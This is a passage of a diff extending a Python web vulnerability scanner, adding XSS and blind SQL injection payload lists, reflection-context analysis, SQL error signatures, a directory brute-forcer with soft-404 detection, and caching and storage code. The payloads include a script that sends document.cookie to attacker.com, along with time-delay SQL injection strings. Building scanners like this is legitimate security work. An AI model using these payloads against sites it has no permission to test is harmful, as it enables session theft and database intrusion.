@@ -11,16 +11,38 @@ Description: A comprehensive web application vulnerability scanner that checks f
 """
 
 import argparse
+import collections
+import difflib
+import functools
+import hashlib
+import heapq
+import itertools
+import json
+import math
+import os
 import requests
 import sys
 import time
 import random
 import re
+import sqlite3
+import statistics
+import threading
 import urllib.parse
+import zlib
+from xml.etree import ElementTree
 from bs4 import BeautifulSoup
-from concurrent.futures import ThreadPoolExecutor
+from concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor
+from requests.adapters import HTTPAdapter
+from requests.structures import CaseInsensitiveDict
 from urllib3.exceptions import InsecureRequestWarning
 
+# HTTP/2 support is optional and needs httpx with the h2 extra installed
+try:
+    import httpx
+except ImportError:
+    httpx = None
+
 # Suppress only the single InsecureRequestWarning
 requests.packages.urllib3.disable_warnings(category=InsecureRequestWarning)
 
@@ -51,7 +73,8 @@ USER_AGENTS = [
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 11_5_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.1.2 Safari/605.1.15"
 ]
 
-# XSS payloads for testing
+# XSS payloads for testing; each contains the marker XSS, which is tagged per parameter
+# so that a reflection can be attributed when several parameters are tested in one request
 XSS_PAYLOADS = [
     "<script>alert('XSS')</script>",
     "<img src=x onerror=alert('XSS')>",
@@ -59,12 +82,60 @@ XSS_PAYLOADS = [
     "javascript:alert('XSS')",
     "\"><script>alert('XSS')</script>",
     "'><script>alert('XSS')</script>",
-    "<script>fetch('https://attacker.com/steal?cookie='+document.cookie)</script>",
+    "<script>fetch('https://attacker.com/steal?XSS&cookie='+document.cookie)</script>",
     "<img src=1 href=1 onerror=\"javascript:alert('XSS')\"></img>",
     "<body onload=alert('XSS')>",
-    "<iframe src=\"javascript:alert('XSS')\"></iframe>"
+    "<iframe src=\"javascript:alert('XSS')\"></iframe>",
+    "</script><script>alert('XSS')</script>",
+    "';alert('XSS');//",
+    "\";alert('XSS');//",
+    "</textarea><script>alert('XSS')</script>",
+    "</title><script>alert('XSS')</script>",
+    "</style><script>alert('XSS')</script>",
+    "--><script>alert('XSS')</script>"
 ]
 
+# Reflection contexts each XSS payload can break out of, and the characters that must be
+# reflected unencoded for it to work. Contexts carry the surrounding quote character
+# (e.g. 'attribute"'); a bare 'attribute' or 'url' means the value is unquoted. Raw text
+# elements are named by their tag and HTML comments are 'comment'.
+XSS_PAYLOAD_CONTEXTS = {
+    "<script>alert('XSS')</script>": ({'html'}, '<>'),
+    "<img src=x onerror=alert('XSS')>": ({'html'}, '<>'),
+    "<svg/onload=alert('XSS')>": ({'html'}, '<>'),
+    "javascript:alert('XSS')": ({'url', 'url"', "url'"}, ''),
+    "\"><script>alert('XSS')</script>": ({'attribute', 'attribute"', 'url', 'url"'}, '"<>'),
+    "'><script>alert('XSS')</script>": ({'attribute', "attribute'", 'url', "url'"}, "'<>"),
+    "<script>fetch('https://attacker.com/steal?XSS&cookie='+document.cookie)</script>": ({'html'}, '<>'),
+    "<img src=1 href=1 onerror=\"javascript:alert('XSS')\"></img>": ({'html'}, '<>"'),
+    "<body onload=alert('XSS')>": ({'html'}, '<>'),
+    "<iframe src=\"javascript:alert('XSS')\"></iframe>": ({'html'}, '<>"'),
+    "</script><script>alert('XSS')</script>": ({'script', 'script"', "script'"}, '<>'),
+    "';alert('XSS');//": ({"script'"}, "'"),
+    "\";alert('XSS');//": ({'script"'}, '"'),
+    "</textarea><script>alert('XSS')</script>": ({'textarea'}, '<>'),
+    "</title><script>alert('XSS')</script>": ({'title'}, '<>'),
+    "</style><script>alert('XSS')</script>": ({'style'}, '<>'),
+    "--><script>alert('XSS')</script>": ({'comment'}, '<>')
+}
+
+assert all('XSS' in payload for payload in XSS_PAYLOAD_CONTEXTS), "every XSS payload needs the XSS marker"
+
+# Characters appended to each canary to see which ones survive output encoding
+XSS_PROBE_CHARS = '"\'<>'
+
+# Elements whose content is raw text or RCDATA, where markup only takes effect after the closing tag
+RAW_TEXT_ELEMENTS = ('textarea', 'title', 'style', 'xmp', 'noembed', 'noframes', 'noscript', 'iframe')
+RAW_TEXT_TAG_REGEX = re.compile(r'<(/?)(' + '|'.join(RAW_TEXT_ELEMENTS) + r')[\s/>]')
+
+# Attributes whose values are navigated to, where a javascript: URL executes
+URL_ATTRIBUTES = {'href', 'src', 'action', 'formaction', 'data', 'srcdoc'}
+
+CANARY_REGEX = re.compile(r'xq[0-9a-f]{8}')
+
+# Form input types whose values are sent unchanged instead of injected (CSRF tokens, buttons)
+PASSTHROUGH_INPUT_TYPES = ('hidden', 'submit', 'button', 'image', 'reset')
+
 # SQL Injection payloads
 SQLI_PAYLOADS = [
     "' OR '1'='1",
@@ -94,6 +165,22 @@ SQLI_PAYLOADS = [
     "1234' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055'"
 ]
 
+# Time-based blind SQL injection payloads, appended to the parameter's original value;
+# {sleep} is replaced with the delay in seconds
+BLIND_SQLI_PAYLOADS = {
+    'MySQL': ["' AND SLEEP({sleep})-- -", " AND SLEEP({sleep})", "\" AND SLEEP({sleep})-- -"],
+    'PostgreSQL': ["'; SELECT pg_sleep({sleep})--", " AND 1=(SELECT 1 FROM pg_sleep({sleep}))"],
+    'Microsoft SQL Server': ["'; WAITFOR DELAY '0:0:{sleep}'--", "; WAITFOR DELAY '0:0:{sleep}'--"],
+    'Oracle': ["' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',{sleep})--"]
+}
+
+# Latency baseline and significance settings for blind SQL injection
+BLIND_BASELINE_SAMPLES = 6
+BLIND_MIN_SLEEP = 1
+BLIND_MAX_SLEEP = 5
+BLIND_Z_THRESHOLD = 4.0
+BLIND_MIN_STDEV = 0.05
+
 # Common directories to check
 COMMON_DIRS = [
     "admin/",
@@ -189,10 +276,1233 @@ COMMON_DIRS = [
     "administrator/index.php"
 ]
 
+# Response bodies are cut off after this many bytes; detectors only need the start of a page
+MAX_BODY_SIZE = 1024 * 1024
+BODY_CHUNK_SIZE = 16 * 1024
+
+# Content types worth downloading; anything else (images, archives, media) is never read
+TEXT_CONTENT_TYPES = ('text/', 'application/xhtml', 'application/xml', 'application/json',
+                      'application/javascript', 'application/x-javascript')
+
+# Response cache limits; least recently used pages are evicted past the size limit
+CACHE_MAX_SIZE = 256 * 1024 * 1024
+CACHE_MAX_AGE = 7 * 24 * 3600
+
+# Request headers that change what a server returns, and so belong in the cache key
+CACHE_VARY_HEADERS = ('Authorization', 'Accept', 'Accept-Language', 'Cookie')
+
+# Rows the scan store buffers before writing them in one transaction
+STORE_BATCH_SIZE = 500
+
+# Limits on crawl seeding from robots.txt and sitemaps
+MAX_SEEDS = 50000
+MAX_SITEMAPS = 100
+
+# Base priority of each check type; cheap checks with a high hit rate go first
+CHECK_PRIORITIES = {
+    'sqli': 60,
+    'xss': 50,
+    'blind_sqli': 30,
+    'dirs': 10
+}
+
+# Inputs on paths containing these words are worth testing before the rest
+HIGH_VALUE_PATHS = ('admin', 'login', 'signin', 'auth', 'account', 'user', 'password', 'upload', 'api')
+
+# Share of the request budget and time limit the crawl may use before checks start
+CRAWL_BUDGET_SHARE = 0.5
+
+# Security headers every HTML page should send
+SECURITY_HEADERS = {
+    'Content-Security-Policy': 'CSP header missing',
+    'X-Frame-Options': 'Clickjacking protection header missing',
+    'X-Content-Type-Options': 'MIME sniffing protection header missing',
+    'Referrer-Policy': 'Referrer policy header missing'
+}
+
+# CSP sources that let an attacker's script run anyway
+UNSAFE_CSP_SOURCES = ("'unsafe-inline'", "'unsafe-eval'", '*', 'http:', 'https:', 'data:')
+
+# Path segments that are record identifiers rather than distinct pages
+ID_SEGMENT_REGEX = re.compile(r'^(\d+|[0-9a-fA-F]{16,}|[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12})$')
+
+# Query parameters that only track where a visitor came from
+TRACKING_PARAMS = {'gclid', 'dclid', 'fbclid', 'msclkid', 'yclid', 'igshid', 'mc_cid', 'mc_eid', '_ga', '_gl'}
+
+# Canonical URLs kept in memory; navigation links repeat on every page
+URL_CACHE_SIZE = 65536
+
+# Characters that never need percent-encoding (RFC 3986 section 2.3)
+UNRESERVED_CHARS = frozenset('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~')
+
+# Query parameters that carry session state rather than select content
+SESSION_PARAMS = {'phpsessid', 'jsessionid', 'aspsessionid', 'sid', 'sessionid', 'session_id', 'cfid', 'cftoken'}
+
+# Status codes that mean a discovered path exists (after soft-404 filtering)
+DISCOVERY_STATUSES = (200, 204, 301, 302, 307, 308, 401, 403)
+
+# Bytes of body compared against the not-found fingerprint when headers are not conclusive
+FINGERPRINT_PREFIX = 4096
+
+# Recently seen wordlist entries remembered to skip repeats without holding the whole list
+DISCOVERY_DEDUP_WINDOW = 10000
+
+# SQL error signatures grouped by DBMS family
+SQL_ERROR_SIGNATURES = {
+    'MySQL': [
+        r"SQL syntax.*?MySQL", r"Warning.*?mysql_", r"valid MySQL result", r"MySqlClient\."
+    ],
+    'PostgreSQL': [
+        r"PostgreSQL.*?ERROR", r"Warning.*?pg_", r"valid PostgreSQL result", r"Npgsql\."
+    ],
+    'Microsoft SQL Server': [
+        r"Driver.*? SQL[-_ ]*Server", r"OLE DB.*? SQL Server", r"\bSQL Server.*?Driver", r"Warning.*?mssql_",
+        r"\bSQL Server.*?[0-9a-fA-F]{8}"
+    ],
+    'Microsoft Access': [
+        r"(?i:Microsoft Access Driver)", r"JET Database Engine", r"Access Database Engine"
+    ],
+    'Oracle': [
+        r"\bORA-[0-9][0-9][0-9][0-9]", r"Oracle error", r"Oracle.*?Driver", r"Warning.*?oci_", r"Warning.*?ora_"
+    ],
+    'IBM DB2': [
+        r"CLI Driver.*?DB2", r"DB2 SQL error", r"\bdb2_\w+\("
+    ],
+    'SQLite': [
+        r"SQLite/JDBCDriver", r"SQLite.Exception", r"System.Data.SQLite.SQLiteException", r"Warning.*?sqlite_",
+        r"Warning.*?SQLite3::", r"\[SQLITE_ERROR\]"
+    ],
+    'ODBC': [
+        r"ODBC.*?Driver.*?\b(?:SQL Server|Oracle|MySQL|PostgreSQL|SQLite)"
+    ],
+    'Generic SQL': [
+        r"Syntax error or access violation", r"Unexpected end of SQL command", r"Error in query syntax"
+    ]
+}
+
+# All signatures compiled once into a single alternation with one named group per DBMS,
+# so each response body is scanned in one pass instead of once per pattern
+SQL_ERROR_GROUPS = {f"dbms{i}": dbms for i, dbms in enumerate(SQL_ERROR_SIGNATURES)}
+SQL_ERROR_REGEX = re.compile('|'.join(
+    f"(?P<{group}>{'|'.join(SQL_ERROR_SIGNATURES[dbms])})" for group, dbms in SQL_ERROR_GROUPS.items()
+))
+
+def match_sql_error(text):
+    """Return (dbms, matched text) for the first SQL error signature in text, or None"""
+    match = SQL_ERROR_REGEX.search(text)
+    if match:
+        return SQL_ERROR_GROUPS[match.lastgroup], match.group(0)[:100]
+    return None
+
+def classify_reflection(text, pos):
+    """Classify the HTML context a reflected value at pos lands in"""
+    lower = text[:pos].lower()
+    
+    # Inside a <script> block: track string quotes up to the reflection
+    script_start = lower.rfind('<script')
+    if script_start > lower.rfind('</script'):
+        quote = ''
+        body = text[text.find('>', script_start) + 1:pos]
+        i = 0
+        while i < len(body):
+            char = body[i]
+            if char == '\\':
+                i += 1
+            elif quote and char == quote:
+                quote = ''
+            elif not quote and char in '"\'`':
+                quote = char
+            i += 1
+        return 'script' + quote.replace('`', '')
+        
+    # Inside a comment or a raw text element nothing runs until it is closed
+    if lower.rfind('<!--') > lower.rfind('-->'):
+        return 'comment'
+    last_tag = None
+    for last_tag in RAW_TEXT_TAG_REGEX.finditer(lower):
+        pass
+    # An opening tag whose '>' has been reached, with no closing tag after it
+    if last_tag and not last_tag.group(1) and lower.find('>', last_tag.start()) != -1:
+        return last_tag.group(2)
+        
+    # Inside a tag: work out which attribute and how it is quoted
+    tag_start = lower.rfind('<')
+    if tag_start > lower.rfind('>') and lower.rfind('<!--') != tag_start:
+        match = re.search(r'([\w:-]+)\s*=\s*(["\']?)([^"\'\s>]*)$', text[tag_start:pos])
+        if not match:
+            return 'attribute'
+        name, quote, prefix = match.groups()
+        if name.lower() in URL_ATTRIBUTES and not prefix:
+            return 'url' + quote
+        return 'attribute' + quote
+        
+    return 'html'
+
+def unencoded_chars(text, pos):
+    """Return which probe characters following a canary at pos came back unencoded"""
+    raw = ''
+    window = text[pos:pos + 40]
+    i = 0
+    for char in XSS_PROBE_CHARS:
+        if i >= len(window):
+            break
+        if window[i] == char:
+            raw += char
+            i += 1
+        elif window[i] == '&':
+            # HTML entity, e.g. &quot; or &#39;
+            i = window.find(';', i) + 1 or len(window)
+        elif window[i] == '\\':
+            i += 2
+    return raw
+
+def find_reflections(text, canaries):
+    """Locate every canary in text in one pass and classify each hit's context"""
+    reflections = {}
+    for match in CANARY_REGEX.finditer(text):
+        param = canaries.get(match.group(0))
+        if param is not None:
+            reflections.setdefault(param, []).append(
+                (classify_reflection(text, match.start()), unencoded_chars(text, match.end()))
+            )
+    return reflections
+
+def select_xss_payloads(reflections):
+    """Pick the payloads that can break out of at least one observed reflection"""
+    selected = []
+    for payload, (contexts, required) in XSS_PAYLOAD_CONTEXTS.items():
+        for context, raw in reflections:
+            if context in contexts and all(char in raw for char in required):
+                selected.append(payload)
+                break
+    return selected
+
+def remove_dot_segments(path):
+    """Resolve . and .. segments in a URL path (RFC 3986 section 5.2.4)"""
+    output = []
+    for segment in path.split('/'):
+        if segment == '..':
+            if len(output) > 1:
+                output.pop()
+        elif segment != '.':
+            output.append(segment)
+    # A trailing . or .. still names a directory
+    if path.endswith(('/.', '/..')):
+        output.append('')
+    return '/'.join(output)
+
+def normalize_percent_encoding(component):
+    """Uppercase percent-escapes and decode the ones that encode unreserved characters"""
+    def fix(match):
+        char = chr(int(match.group(1), 16))
+        return char if char in UNRESERVED_CHARS else match.group(0).upper()
+    return re.sub(r'%([0-9a-fA-F]{2})', fix, component)
+
+@functools.lru_cache(maxsize=URL_CACHE_SIZE)
+def canonicalize_url(url, base=None):
+    """Resolve url against base and normalize it so cosmetic variants of a resource compare equal
+    
+    Returns None for anything that is not an http(s) URL.
+    """
+    if base:
+        url = urllib.parse.urljoin(base, url.strip())
+    parsed = urllib.parse.urlsplit(url.strip())
+    scheme = parsed.scheme.lower()
+    if scheme not in ('http', 'https') or not parsed.hostname:
+        return None
+        
+    host = parsed.hostname.lower()
+    if ':' in host:
+        host = f"[{host}]"
+    try:
+        port = parsed.port
+    except ValueError:
+        return None
+    if port and port != {'http': 80, 'https': 443}[scheme]:
+        host = f"{host}:{port}"
+        
+    path = normalize_percent_encoding(remove_dot_segments(parsed.path)) or '/'
+    params = [(name, value) for name, value in urllib.parse.parse_qsl(parsed.query, keep_blank_values=True)
+              if not name.lower().startswith('utm_') and name.lower() not in TRACKING_PARAMS]
+    query = urllib.parse.urlencode(sorted(params))
+    return urllib.parse.urlunsplit((scheme, host, path, query, ''))
+
+def url_pattern(url):
+    """Reduce a URL to its path and parameter names so value-only variants compare equal"""
+    parsed = urllib.parse.urlparse(url)
+    names = sorted({name for name, value in urllib.parse.parse_qsl(parsed.query, keep_blank_values=True)
+                    if name.lower() not in SESSION_PARAMS})
+    path = parsed.path.split(';')[0].rstrip('/') or '/'
+    return f"{parsed.scheme}://{parsed.netloc.lower()}{path}?{'&'.join(names)}"
+
+def dom_signature(soup):
+    """Hash the tag and attribute-name structure of a page, plus the values that decide what it tests
+    
+    Text and most attribute values are ignored, but field names, form actions and link targets
+    (reduced to their URL pattern) are kept, so pages with different inputs never compare equal.
+    """
+    structure = hashlib.md5()
+    for tag in soup.find_all(True):
+        structure.update(tag.name.encode())
+        structure.update(','.join(sorted(tag.attrs)).encode())
+        for attribute in ('name', 'action', 'href'):
+            value = tag.get(attribute)
+            if isinstance(value, str):
+                structure.update(b'|' + (url_pattern(value) if attribute != 'name' else value).encode())
+        structure.update(b';')
+    return structure.hexdigest()
+
+def page_base(soup, page_url, target_url):
+    """URL that relative links on a page resolve against, honouring <base href>"""
+    page_url = canonicalize_url(page_url) or canonicalize_url(target_url)
+    base_tag = soup.find('base', href=True)
+    if base_tag:
+        return canonicalize_url(base_tag['href'], page_url) or page_url
+    return page_url
+
+def parse_forms(soup, base):
+    """Extract every form with its canonical action, method and named inputs"""
+    forms = []
+    for form in soup.find_all('form'):
+        form_info = {
+            'action': form.get('action', ''),
+            'method': form.get('method', 'get').upper(),
+            'inputs': []
+        }
+        
+        # Resolve the action against the page; an empty action submits back to the page itself
+        form_info['action'] = canonicalize_url(form_info['action'], base) or base
+        
+        # Extract form inputs
+        for input_field in form.find_all(['input', 'textarea', 'select']):
+            input_type = input_field.get('type', '')
+            input_name = input_field.get('name', '')
+            input_value = input_field.get('value', '')
+            
+            if input_name:  # Only include inputs with names
+                form_info['inputs'].append({
+                    'type': input_type,
+                    'name': input_name,
+                    'value': input_value
+                })
+        
+        forms.append(form_info)
+    return forms
+
+def parse_links(soup, base, host):
+    """Extract canonical links that stay on host"""
+    links = set()
+    for a_tag in soup.find_all('a', href=True):
+        href = a_tag['href'].strip()
+        
+        # Skip empty links, javascript, and anchors
+        if not href or href.startswith(('javascript:', '#', 'mailto:', 'tel:')):
+            continue
+            
+        # Only include links from the same host
+        href = canonicalize_url(href, base)
+        if href and urllib.parse.urlsplit(href).netloc == host:
+            links.add(href)
+    return links
+
+def parse_page(body, encoding, page_url, target_url):
+    """Parse a raw page body into its DOM signature, forms and links
+    
+    Takes and returns only plain data so it can run in a worker process.
+    """
+    if not body:
+        return {'signature': None, 'forms': [], 'links': []}
+    soup = BeautifulSoup(body, 'html.parser', from_encoding=encoding)
+    base = page_base(soup, page_url, target_url)
+    host = urllib.parse.urlsplit(canonicalize_url(target_url)).netloc
+    return {
+        'signature': dom_signature(soup),
+        'forms': parse_forms(soup, base),
+        'links': sorted(parse_links(soup, base, host))
+    }
+
+def form_signature(form):
+    """Identify a form by where it submits and which fields it has"""
+    return (url_pattern(form['action']), form['method'],
+            tuple(sorted(input_field['name'] for input_field in form['inputs'])))
+
+class ContentDiscovery:
+    """Concurrent directory and file brute-forcer with soft-404 fingerprinting"""
+    
+    def __init__(self, scanner, wordlist=None):
+        self.scanner = scanner
+        self.wordlist = wordlist
+        self.base_url = scanner.target_url.rstrip('/') + '/'
+        self.fingerprints = {}
+        self.kind_locks = collections.defaultdict(threading.Lock)
+        self.lock = threading.Lock()
+        self.counter_lock = threading.Lock()
+        self.checked = 0
+        self.found = 0
+        self.soft_404s = 0
+        self.errors = 0
+        
+    def iter_paths(self):
+        """Stream paths from the wordlist (or the built-in list) without loading it into memory"""
+        # Only a window of recent entries is remembered, so repeats far apart are requested twice
+        recent = collections.OrderedDict()
+        if self.wordlist:
+            source = open(self.wordlist, 'r', encoding='utf-8', errors='ignore')
+        else:
+            source = iter(COMMON_DIRS)
+        try:
+            for line in source:
+                path = line.strip().lstrip('/')
+                if not path or path.startswith('#') or path in recent:
+                    continue
+                recent[path] = None
+                if len(recent) > DISCOVERY_DEDUP_WINDOW:
+                    recent.popitem(last=False)
+                yield path
+        finally:
+            if self.wordlist:
+                source.close()
+                
+    def path_kind(self, path):
+        """Group paths that a server is likely to answer the same way when missing"""
+        if path.endswith('/'):
+            return '/'
+        return os.path.splitext(path)[1].lower()
+        
+    def read_prefix(self, response):
+        """Read at most FINGERPRINT_PREFIX bytes of a streamed body and release the connection"""
+        # requests streams through iter_content, the HTTP/2 (httpx) client through iter_bytes
+        chunks = response.iter_content if hasattr(response, 'iter_content') else response.iter_bytes
+        errors = (requests.RequestException, httpx.HTTPError) if httpx else requests.RequestException
+        try:
+            return next(chunks(FINGERPRINT_PREFIX), b'')
+        except errors as e:
+            self.scanner.log(f"Could not read the body of {response.url}, comparing without it: {e}", "WARNING")
+            return b''
+        finally:
+            response.close()
+            
+    def fetch(self, url):
+        """HEAD the URL, falling back to a streamed GET when HEAD is not supported"""
+        response = self.scanner.request(url, method="HEAD", follow_redirects=False)
+        if response is not None and response.status_code not in (400, 405, 501):
+            return response
+        return self.scanner.request(url, follow_redirects=False, stream=True)
+        
+    def fingerprint(self, kind):
+        """Record how the server answers a path of this kind that cannot exist"""
+        if kind in self.fingerprints:
+            return self.fingerprints[kind]
+            
+        # Only workers waiting on the same kind block while its fingerprint is fetched
+        with self.lock:
+            kind_lock = self.kind_locks[kind]
+        with kind_lock:
+            if kind in self.fingerprints:
+                return self.fingerprints[kind]
+                
+            token = '%016x' % random.getrandbits(64)
+            path = token + kind
+            response = self.scanner.request(self.base_url + path, follow_redirects=False, stream=True)
+            fingerprint = None
+            if response is not None and response.status_code != 404:
+                fingerprint = {
+                    'status': response.status_code,
+                    'length': self.content_length(response),
+                    'location': response.headers.get('Location', '').replace(token, '{path}'),
+                    'prefix': self.read_prefix(response).replace(token.encode(), b'')
+                }
+                fingerprint['hash'] = hashlib.md5(fingerprint['prefix']).hexdigest()
+                self.scanner.log(f"Soft-404 fingerprint for '{kind or 'no extension'}': "
+                                 f"status {fingerprint['status']}, length {fingerprint['length']}")
+            elif response is not None:
+                response.close()
+            self.fingerprints[kind] = fingerprint
+            return fingerprint
+            
+    def content_length(self, response):
+        """Return the Content-Length header as an int, if present"""
+        try:
+            return int(response.headers.get('Content-Length'))
+        except (TypeError, ValueError):
+            return None
+            
+    def is_not_found(self, path, response):
+        """Decide whether a response is the site's not-found page, downloading as little as possible"""
+        if response.status_code == 404:
+            return True
+            
+        fingerprint = self.fingerprint(self.path_kind(path))
+        if not fingerprint or fingerprint['status'] != response.status_code:
+            return False
+            
+        # Catch-all redirects point at the same place (possibly echoing the path)
+        if 300 <= response.status_code < 400:
+            return response.headers.get('Location', '').replace(path, '{path}') == fingerprint['location']
+            
+        # Lengths that clearly differ are a real page; allow for the path being echoed back
+        length = self.content_length(response)
+        if length is not None and fingerprint['length'] is not None:
+            if length == fingerprint['length']:
+                return True
+            if abs(length - fingerprint['length']) > 2 * len(path) + 32:
+                return False
+                
+        # Otherwise compare the start of the body against the fingerprint
+        if response.request.method == 'HEAD':
+            response = self.scanner.request(self.base_url + path, follow_redirects=False, stream=True)
+            if response is None:
+                return False
+        prefix = self.read_prefix(response).replace(path.encode(), b'')
+        if hashlib.md5(prefix).hexdigest() == fingerprint['hash']:
+            return True
+        matcher = difflib.SequenceMatcher(None, prefix, fingerprint['prefix'])
+        return matcher.quick_ratio() >= 0.95 and matcher.ratio() >= 0.95
+        
+    def check_path(self, path):
+        """Request a single path and record it if it exists"""
+        url = self.base_url + path
+        response = self.fetch(url)
+        if response is None:
+            return
+            
+        try:
+            if self.is_not_found(path, response):
+                if response.status_code != 404:
+                    with self.counter_lock:
+                        self.soft_404s += 1
+                return
+                
+            if response.status_code in DISCOVERY_STATUSES:
+                with self.counter_lock:
+                    self.found += 1
+                self.scanner.log(f"Found: {url} (Status: {response.status_code})", "FOUND")
+                self.scanner.vulnerabilities.append({
+                    'type': 'Sensitive Directory',
+                    'url': url,
+                    'method': response.request.method,
+                    'parameter': None,
+                    'payload': None,
+                    'evidence': f"Status code {response.status_code}"
+                })
+        finally:
+            response.close()
+            with self.counter_lock:
+                self.checked += 1
+                if self.checked % 1000 == 0:
+                    self.scanner.log(f"Checked {self.checked} paths")
+                
+    def run(self):
+        """Check every path, keeping a bounded number of requests in flight"""
+        in_flight = threading.BoundedSemaphore(self.scanner.threads * 4)
+        
+        def release(future):
+            in_flight.release()
+            error = future.exception()
+            if error is not None:
+                with self.counter_lock:
+                    self.errors += 1
+                self.scanner.log(f"Error checking path: {error}", "ERROR")
+            
+        with ThreadPoolExecutor(max_workers=self.scanner.threads) as executor:
+            for path in self.iter_paths():
+                in_flight.acquire()
+                executor.submit(self.check_path, path).add_done_callback(release)
+                
+        print(f"[+] Checked {self.checked} paths: {self.found} found, "
+              f"{self.soft_404s} soft-404 responses dropped, {self.errors} errors")
+              
+def form_inventory_key(form):
+    """Inventory key for a form: how and where it submits, and which fields it sends"""
+    fields = ','.join(sorted(input_field['name'] for input_field in form['inputs']))
+    return f"{form['method'].upper()} {url_pattern(form['action'])} [{fields}]"
+
+def link_inventory_key(link):
+    """Inventory key for a link with query parameters"""
+    return f"GET {url_pattern(link)}"
+
+def build_inventory(forms, links):
+    """Map every testable input to a fingerprint of its fields, for diffing between scans"""
+    inventory = {}
+    for form in forms:
+        fields = sorted(f"{input_field['name']}:{input_field['type']}" for input_field in form['inputs'])
+        inventory[form_inventory_key(form)] = ','.join(fields)
+    for link in links:
+        if '?' in link:
+            inventory[link_inventory_key(link)] = url_pattern(link).split('?', 1)[1]
+    return inventory
+
+class ResponseCache:
+    """On-disk cache of crawled pages, revalidated with ETag / Last-Modified on later scans"""
+    
+    def __init__(self, path, max_size=CACHE_MAX_SIZE, max_age=CACHE_MAX_AGE):
+        self.max_size = max_size
+        self.max_age = max_age
+        self.hits = 0
+        self.misses = 0
+        # Bytes of cached bodies, kept up to date between evictions so inserts can enforce max_size
+        self.size = 0
+        self.lock = threading.Lock()
+        self.db = sqlite3.connect(path, check_same_thread=False)
+        self.db.execute(
+            "CREATE TABLE IF NOT EXISTS responses ("
+            "key TEXT PRIMARY KEY, url TEXT, status INTEGER, headers TEXT, body BLOB, "
+            "extracted TEXT, size INTEGER, stored_at REAL, accessed_at REAL)"
+        )
+        self.db.execute("CREATE INDEX IF NOT EXISTS responses_accessed ON responses (accessed_at)")
+        self.db.commit()
+        self.evict()
+        
+    @staticmethod
+    def make_key(method, url, headers, cookies):
+        """Hash the method, URL and the request headers that affect the response"""
+        key = hashlib.sha256(f"{method.upper()} {url}".encode())
+        for name in CACHE_VARY_HEADERS:
+            key.update(f"\n{name}: {headers.get(name, '')}".encode())
+        key.update(json.dumps(cookies, sort_keys=True).encode())
+        return key.hexdigest()
+        
+    @staticmethod
+    def conditional_headers(entry):
+        """Build If-None-Match / If-Modified-Since headers from a cached entry"""
+        headers = {}
+        if entry['headers'].get('ETag'):
+            headers['If-None-Match'] = entry['headers']['ETag']
+        if entry['headers'].get('Last-Modified'):
+            headers['If-Modified-Since'] = entry['headers']['Last-Modified']
+        return headers
+        
+    def get(self, key):
+        """Return a cached entry, or None if missing or expired; a lookup counts as a use for eviction"""
+        now = time.time()
+        with self.lock:
+            row = self.db.execute(
+                "SELECT url, status, headers, body, extracted, stored_at FROM responses WHERE key = ?", (key,)
+            ).fetchone()
+            if not row or now - row[5] > self.max_age:
+                return None
+            self.db.execute("UPDATE responses SET accessed_at = ? WHERE key = ?", (now, key))
+            self.db.commit()
+        return {
+            'url': row[0],
+            'status': row[1],
+            'headers': CaseInsensitiveDict(json.loads(row[2])),
+            'body': row[3],
+            'extracted': json.loads(row[4])
+        }
+        
+    def restore(self, entry, response):
+        """Turn a 304 response into the cached full response, with headers freshened by the 304"""
+        headers = CaseInsensitiveDict(entry['headers'])
+        headers.update(response.headers)
+        response.headers = headers
+        response.status_code = entry['status']
+        response._content = entry['body']
+        response.from_cache = True
+        return response
+        
+    def store(self, key, url, response, extracted):
+        """Store a page that carries validators, along with what was extracted from it"""
+        headers = response.headers
+        if response.status_code != 200 or 'no-store' in headers.get('Cache-Control', ''):
+            return
+        if not headers.get('ETag') and not headers.get('Last-Modified'):
+            return
+        body = response.content
+        now = time.time()
+        with self.lock:
+            self.db.execute(
+                "INSERT OR REPLACE INTO responses VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)",
+                (key, url, response.status_code, json.dumps(dict(headers)), body,
+                 json.dumps(extracted), len(body), now, now)
+            )
+            self.db.commit()
+            # Replaced entries are counted twice until the next eviction recounts, which only evicts early
+            self.size += len(body)
+            if self.size > self.max_size:
+                self.trim()
+                
+    def touch(self, key):
+        """Mark an entry as revalidated and count the hit"""
+        now = time.time()
+        with self.lock:
+            self.hits += 1
+            self.db.execute("UPDATE responses SET stored_at = ?, accessed_at = ? WHERE key = ?", (now, now, key))
+            self.db.commit()
+            
+    def miss(self):
+        """Count a page that had to be fetched in full"""
+        with self.lock:
+            self.misses += 1
+            
+    def evict(self):
+        """Drop expired entries, then least recently used ones until under the size limit"""
+        with self.lock:
+            self.trim()
+            
+    def trim(self):
+        """Evict with the lock already held by the caller"""
+        self.db.execute("DELETE FROM responses WHERE stored_at < ?", (time.time() - self.max_age,))
+        total = self.db.execute("SELECT COALESCE(SUM(size), 0) FROM responses").fetchone()[0]
+        if total > self.max_size:
+            for key, size in self.db.execute(
+                    "SELECT key, size FROM responses ORDER BY accessed_at").fetchall():
+                self.db.execute("DELETE FROM responses WHERE key = ?", (key,))
+                total -= size
+                if total <= self.max_size:
+                    break
+        self.db.commit()
+        self.size = total
+            
+    def close(self):
+        """Evict and close the cache file"""
+        self.evict()
+        self.db.close()
+        
+class ScanStore:
+    """SQLite record of scans: URLs, forms, parameters, requests and findings, written in batches"""
+    
+    def __init__(self, path, batch_size=STORE_BATCH_SIZE):
+        self.batch_size = batch_size
+        self.scan_id = None
+        self.crawl_done = False
+        self.pending = collections.defaultdict(list)
+        self.pending_rows = 0
+        self.lock = threading.Lock()
+        self.db = sqlite3.connect(path, check_same_thread=False)
+        self.db.executescript("""
+            CREATE TABLE IF NOT EXISTS scans (
+                id INTEGER PRIMARY KEY, target TEXT, started REAL, finished REAL,
+                status TEXT, crawl_done INTEGER DEFAULT 0);
+            CREATE TABLE IF NOT EXISTS urls (
+                scan_id INTEGER, url TEXT, status INTEGER, PRIMARY KEY (scan_id, url));
+            CREATE TABLE IF NOT EXISTS forms (
+                scan_id INTEGER, action TEXT, method TEXT, inputs TEXT, UNIQUE (scan_id, action, method, inputs));
+            CREATE TABLE IF NOT EXISTS parameters (
